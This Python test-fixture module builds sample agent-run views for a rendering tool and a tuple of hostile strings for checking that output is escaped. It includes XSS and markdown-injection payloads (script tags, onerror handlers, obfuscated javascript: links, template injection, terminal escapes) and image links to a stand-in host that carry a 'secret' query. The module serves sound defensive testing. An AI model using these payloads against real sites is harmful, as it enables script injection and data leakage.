"""Run views made by hand, and strategies for any."""

from hypothesis import strategies as st

from tt_kernel.domain.views import CallView, ImageView, RunView, TextView

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg=="
FOLDER = "analysis.agent/runs/3fa92c17"


def penguins(**changes) -> RunView:
    """The run of notes/ux.md."""
    calls = (
        call(1, "workspace_list_files", {"path": "/"}, summary="3 entries", content="a\nb\nc"),
        call(2, "workspace_shell", {"command": "jq -s length"}, summary="exit 0"),
        call(
            3,
            "workspace_shell",
            {"command": "python x.py"},
            state="error",
            error_code="workspace.shell_exit",
            summary="exit 1",
            content="KeyError: 'mass'",
        ),
        call(
            4,
            "plot_hist",
            {"column": "body_mass_g", "bins": 20},
            group="notebook",
            summary="1 image",
            images=(
                ImageView(path=f"{FOLDER}/tool-results/hist.png", mime_type="image/png", width=2, height=2, data=PNG),
            ),
        ),
    )
    facts = {
        "id": "3fa92c17",
        "status": "done",
        "profile": "assistant",
        "model": "scripted:penguins.yaml",
        "turns": 3,
        "call_count": 4,
        "tokens": 2113,
        "calls": calls,
        "text": "The 344 penguins weigh 4.2 kg on average, Gentoo most (5.1 kg).",
        "files": ("output/hist.png",),
        "folder": FOLDER,
    }
    return RunView(**(facts | changes))


def call(index: int, name: str, arguments: dict, **facts) -> CallView:
    defaults = {"turn": 1, "tool_id": f"builtin:{name}", "group": "workspace", "state": "done"}
    return CallView(index=index, name=name, arguments=arguments, **(defaults | facts))


def everywhere(text: str) -> RunView:
    """A view with the same text in every place that a model, a tool, a file name or a profile can fill."""
    image = ImageView(path=text, mime_type=text, data=text, data_mime_type=text)
    calls = (
        call(
            1,
            text,
            {text: text, "nested": {"deep": [text]}},
            tool_id=f"x:{text}",
            group=text,
            summary=text,
            content=text,
        ),
        call(2, "raw", {}, raw_arguments=text, state="error", error_code=text, summary=text, images=(image,)),
    )
    return penguins(
        profile=text,
        model=text,
        status=text or "done",
        text=text,
        folder=text,
        files=(text,),
        calls=calls,
        call_count=2,
        notes=(TextView(after=0, text=text), TextView(after=2, text=text)),
        problem=text,
        problem_code=text,
        continues=text,
        id=text,
    )


HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</pre></div><style>*{display:none}</style>",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x]( \tjavascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]:\njavascript:alert(1)\n\n[x][x]",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "`<b>`` <script>alert(1)</script> ` x",
    "```\ncode\n```\n<iframe src=//evil.example></iframe>",
    "~~~ <img src=x onerror=alert(1)>\n~~~",
    "```` \n```\n<img src=x onerror=alert(1)>\n````\n<img src=y onerror=alert(2)>",
    "    <b>indented</b>\n\n<!-- c --><?php ?><![CDATA[x]]>",
    "<details open ontoggle=alert(1)>",
    'a <a href="javascript:alert(1)" style="x">b</a>',
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x00 \x07 \u202etxt.exe",
    "\ud800 lone surrogate",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <h1 onclick=alert(1)>",
    "{{constructor.constructor('alert(1)')()}} ${7*7}",
    "](x) ](javascript:alert(1)) [a](b)](javascript:alert(1))",
    "[a](javascript\n:alert(1))",
    "[a\\](javascript:alert(1))",
    "\\[a\\\\](javascript:alert(1))",
    '<https://ok.example/"onmouseover=alert(1)>',
)

_MARKUP = st.sampled_from(
    ["<", ">", "&", '"', "'", "`", "```\n", "~~~\n", "[", "]", "(", ")", "![", "](", "]:", "\n", "\n\n", "\\", "#", "* ", "|", "    ",
     "javascript:", "JAVASCRIPT:", "https://e.example", "script", "img src=x onerror=y", "a", " ", "\t", "&lt;", "&#106;", "\x1b[1m",
     "\ud83d", "<!--", "-->", "</", "<a href=", "> ", "- ", "1. ", "---\n", "$x$", "\r", "\u2028", ":"]
)  # fmt: skip
markup = st.lists(_MARKUP, max_size=40).map("".join)
